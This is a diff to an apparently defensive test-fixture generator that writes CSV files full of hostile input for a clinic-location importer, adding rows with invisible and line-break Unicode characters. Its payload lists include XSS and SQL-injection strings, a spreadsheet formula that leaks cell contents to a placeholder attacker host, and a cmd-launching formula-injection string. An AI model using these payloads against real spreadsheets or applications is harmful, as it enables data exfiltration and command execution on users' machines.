@@ -26,9 +26,11 @@ PAYLOADS = [
     "<!-- --><![CDATA[ ]]> & &amp; &#x3C;",
     "javascript:alert(1)",
     "' OR 1=1; DROP TABLE locations; --",
-    "\u2028\u2029 line separators",
     "<svg/onload=alert(1)>",
 ]
+# Line breaks and invisible controls: refused in one-line columns, kept in the intro paragraph.
+INVISIBLE = ["\r", "\n", "\x85", "\u2028", "\u2029", "\u202e", "\u2067", "\u200b", "\ufeff"]
+ONE_LINE_TEXT = ("name", "street_address", "city")
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
     "+1+cmd|' /C calc'!A0",
@@ -51,7 +53,19 @@ def markup_rows() -> list[list[str]]:
     for n, payload in enumerate(PAYLOADS):
         rows.append([f"markup-{n}", f"Clinic {payload}", f"{n} Main St {payload}",
                      f"Town {payload}", "MO", "63031", "314-555-0101",
-                     f"Intro {payload} end."])  # fmt: skip
+                     f"Intro {payload} end.\u2028\u2029 Second line."])  # fmt: skip
+    return rows
+
+
+def invisible_rows() -> list[list[str]]:
+    """Each character in each one-line text column, one row apiece (rows 2, 3, ...)."""
+    rows = [HEADER]
+    for char in INVISIBLE:
+        for column in ONE_LINE_TEXT:
+            cells = dict(zip(HEADER, GOOD, strict=True))
+            cells["slug"] = f"invisible-{len(rows)}"
+            cells[column] = f"Before{char}after"
+            rows.append(list(cells.values()))
     return rows
 
 
@@ -71,6 +85,7 @@ def files() -> dict[str, bytes]:
         "header-only.csv": text([HEADER]).encode(),
         "empty.csv": b"",
         "markup-in-text-columns.csv": text(markup_rows()).encode(),
+        "invisible-in-one-line-columns.csv": text(invisible_rows()).encode(),
         "markup-in-validated-columns.csv": text(
             [
                 HEADER
